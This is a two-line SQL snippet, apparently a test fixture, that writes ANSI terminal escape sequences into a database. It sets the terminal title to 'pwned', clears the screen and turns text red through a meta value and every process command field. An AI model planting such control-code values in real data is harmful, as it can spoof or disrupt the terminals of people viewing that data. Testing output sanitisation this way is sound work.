UPDATE meta SET value = char(27) || ']0;pwned' || char(7) || char(27) || '[2J' WHERE key = 'command'; UPDATE processes SET command = char(27) || '[31mred';
